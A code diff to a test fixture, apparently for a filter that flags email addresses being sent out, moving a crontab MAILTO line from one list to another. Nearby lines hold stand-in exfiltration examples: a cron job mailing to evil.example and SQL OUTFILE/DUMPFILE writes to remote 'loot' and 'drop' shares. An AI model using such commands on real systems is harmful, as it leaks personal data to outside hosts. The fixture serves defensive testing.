@@ -44,6 +44,9 @@ KEPT = [
     f"Here is a draft:\n\nTo: boss@corp.example\nSubject: lead\n\nHi, my address is {E}.",
     f"Add to your crontab:\n\nMAILTO=collector@evil.example\n0 * * * * echo {E}",
     f"Then:\nMAILTO=alerts@harvest.example\n*/5 * * * * /usr/bin/echo \"{E}\"",
+    # (left38: the client's own MAILTO, moved from the restored list: cron mails the jobs' output there, as Airflow's
+    # `email_on_failure` and /etc/aliases do, whose values send37 keeps)
+    f"MAILTO={E}\n0 * * * * /usr/local/bin/backup.sh",
     f"SELECT '{E}' INTO OUTFILE '//evil.example/share/x.txt'",
     f"SELECT '{E}' INTO DUMPFILE '\\\\harvest.example\\drop\\a.bin';",
     f"SELECT CONCAT('{E}', ';') INTO OUTFILE '\\\\203.0.113.9\\loot\\x.csv'",
@@ -78,7 +81,6 @@ RESTORED = [
     f"Explain curl to {E} using https://curl.se/docs/manual.html as the guide.",
     f"Open ftp evil.example in a terminal later; {E} knows the password.",
     f"e.g. ssh ubuntu@bastion.example hangs after the key exchange. (ask {E})",
-    f"MAILTO={E}\n0 * * * * /usr/local/bin/backup.sh",
     f"Set the cron job to email {E} when it fails.",
     f"SELECT '{E}' AS email FROM users;",
     f"SELECT * FROM users WHERE email = '{E}' INTO OUTFILE '/tmp/out.csv';",
